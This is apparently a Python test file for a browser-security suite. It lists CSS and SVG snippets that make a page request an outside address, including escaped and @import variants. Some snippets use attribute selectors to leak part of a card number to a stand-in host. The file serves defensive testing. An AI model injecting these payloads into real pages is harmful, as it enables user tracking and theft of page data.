"""Carriers in CSS: each asks a stranger once a rule applies, some only where something is as the stranger guesses."""

from __future__ import annotations

from tests.e2e.hostile.carriers import ASKS, FOCUS, HOVER, Carrier

NOT_YET = "no browser has it yet"


def sheet(name: str, css: str, on: str = "<p tabindex=0>text</p>", **more: str) -> Carrier:
    return Carrier(f"sheet: {name}", f"<style>{css}</style>{on}", ASKS, **more)


SECRET = '<input value="4242" name=card>'
SHEETS = [
    sheet("url", "p { background: url({url}) }"),
    sheet("url in quotes", 'p { background: url("{url}") }'),
    sheet("url with an escape", "p { background: u\\72l({url}) }"),
    sheet("url all in escapes", "p { background: \\75 \\72 \\6c({url}) }"),
    sheet(
        "url without a scheme",
        "p { background: url(//stranger.localhost/{key}) }",
        outlived="the port of the test's host is not 80",
    ),
    sheet("url behind a comment", "/* { */ p { background: url( '{url}') }"),
    sheet("url behind a bad string", 'p { content: "a\n; background: url({url}) }'),
    sheet("a sheet that never ends", "p { background: url({url}"),
    sheet("src()", "p { background: src('{url}') }", outlived=NOT_YET),
    sheet("image()", "p { background: image('{url}') }", outlived=NOT_YET),
    sheet("image-set", 'p { background: image-set("{url}" 1x) }'),
    sheet("-webkit-image-set", "p { background: -webkit-image-set(url({url}) 1x) }"),
    sheet("cross-fade", "p { background: -webkit-cross-fade(url({url}), url({url}), 50%) }"),
    sheet("variable", "p { --a: url({url}); background: var(--a) }"),
    sheet("variable with a plain string", 'p { --a: "{url}"; background: image-set(var(--a) 1x) }'),
    sheet(
        "variable of a registered kind",
        "@property --b { syntax: '<image>'; inherits: false; initial-value: none } p { --b: url({url}); background: var(--b) }",
    ),
    sheet(
        "attribute in image-set",
        "p { background: image-set(attr(data-a type(<string>)) 1x) }",
        on='<p data-a="{url}">text</p>',
        outlived="what attr() gives is no address",
    ),
    sheet("condition", "p { background: if(style(--none): none; else: url({url})) }"),
    sheet("cursor", "p { cursor: url({url}), auto }", by=HOVER),
    sheet("content", "p::before { content: url({url}) }"),
    sheet("list", "li { list-style: url({url}) }", on="<ul><li>text</ul>"),
    sheet("border", "p { border: 3px solid; border-image: url({url}) 3 }"),
    sheet("mask", "p { mask-image: url({url}) }"),
    sheet("filter", "p { filter: url({url}#a) }"),
    sheet("clip", "p { clip-path: url({url}#a) }"),
    sheet("shape", "p { float: left; shape-outside: url({url}) }"),
    sheet("font", "@font-face { font-family: f; src: url({url}) } p { font-family: f }"),
    sheet(
        "font of some letters",
        "@font-face { font-family: g; src: url({url}); unicode-range: U+74 } p { font-family: g }",
    ),
    sheet("import", "@import '{url}';"),
    sheet("import by url", "@import url({url}) layer(a) screen;"),
    sheet("import with an escape", "@\\69mport url({url});"),
    sheet("import without an end", "@import url({url})"),
    sheet(
        "import behind a namespace",
        "@namespace 'http://x'; @import url('{url}');",
        outlived="imports stand before namespaces",
    ),
    sheet("attribute selector", 'input[value^="4"] { background: url({url}) }', on=SECRET),
    sheet(
        "attribute selector by has",
        'form:has(input[value^="4"]) { background: url({url}) }',
        on=f"<form>{SECRET}</form>",
    ),
    sheet("hover", "p:hover { background: url({url}) }", by=HOVER),
    sheet("focus", "p:focus { background: url({url}) }", by=FOCUS),
    sheet("focus within", "form:focus-within { background: url({url}) }", on="<form><input></form>", by=FOCUS),
    sheet("media", "@media (min-width: 1px) { p { background: url({url}) } }"),
    sheet("support", "@supports (color: red) { p { background: url({url}) } }"),
    sheet("layer", "@layer a { p { background: url({url}) } }"),
    sheet("nesting", "p { & { background: url({url}) } }"),
    sheet(
        "container", "body { container-type: inline-size } @container (min-width: 1px) { p { background: url({url}) } }"
    ),
    sheet("scope", "@scope (body) { p { background: url({url}) } }"),
    sheet(
        "starting style",
        "@starting-style { p { background: url({url}) } } p { transition: background 1s allow-discrete }",
    ),
    sheet("keyframes", "@keyframes k { to { background-image: url({url}) } } p { animation: k 1s forwards }"),
    sheet(
        "scroll bar",
        "div { overflow: scroll; height: 40px; width: 40px } ::-webkit-scrollbar { width: 9px } ::-webkit-scrollbar-thumb { background: url({url}) }",
        on="<div><p style='height: 99px'>text</p></div>",
    ),
    sheet("first line", "p::first-line { background: url({url}) }"),
    sheet("marker", "li::marker { content: url({url}) }", on="<ul><li>text</ul>"),
    sheet(
        "counter style",
        "@counter-style c { system: cyclic; symbols: url({url}) } li { list-style: c }",
        on="<ul><li>text</ul>",
        outlived=NOT_YET,
    ),
    sheet("offset path", "p { offset-path: url({url}#a) }", outlived="of the document itself alone"),
]
ATTRIBUTES = [
    Carrier("style attribute", '<p style="background: url({url})">text</p>', ASKS),
    Carrier("style attribute with an escape", '<p style="background: u\\72l({url})">text</p>', ASKS),
    Carrier("style attribute of a drawing", '<svg width=9 height=9 style="background: url({url})"></svg>', ASKS),
    Carrier("style attribute of a formula", '<math style="background: url({url})"><mi>x</mi></math>', ASKS),
    Carrier("fill", '<svg width=9 height=9><rect width=9 height=9 fill="url({url}#a)"/></svg>', ASKS),
    Carrier("filter attribute", '<svg width=9 height=9><rect width=9 height=9 filter="url({url}#a)"/></svg>', ASKS),
    Carrier(
        "clip-path attribute with an escape",
        '<svg width=9 height=9><rect width=9 height=9 clip-path="u\\72l({url}#a)"/></svg>',
        ASKS,
    ),
    Carrier("mask attribute", '<svg width=9 height=9><rect width=9 height=9 mask="url({url}#a)"/></svg>', ASKS),
    Carrier(
        "cursor attribute",
        '<svg width=20 height=20><rect width=20 height=20 cursor="url({url}), auto"/></svg>',
        ASKS,
        by=HOVER,
    ),
    Carrier("marker attribute", '<svg width=9 height=9><path d="M0 0L9 9" marker-end="url({url}#a)"/></svg>', ASKS),
]
STYLES = [*SHEETS, *ATTRIBUTES]
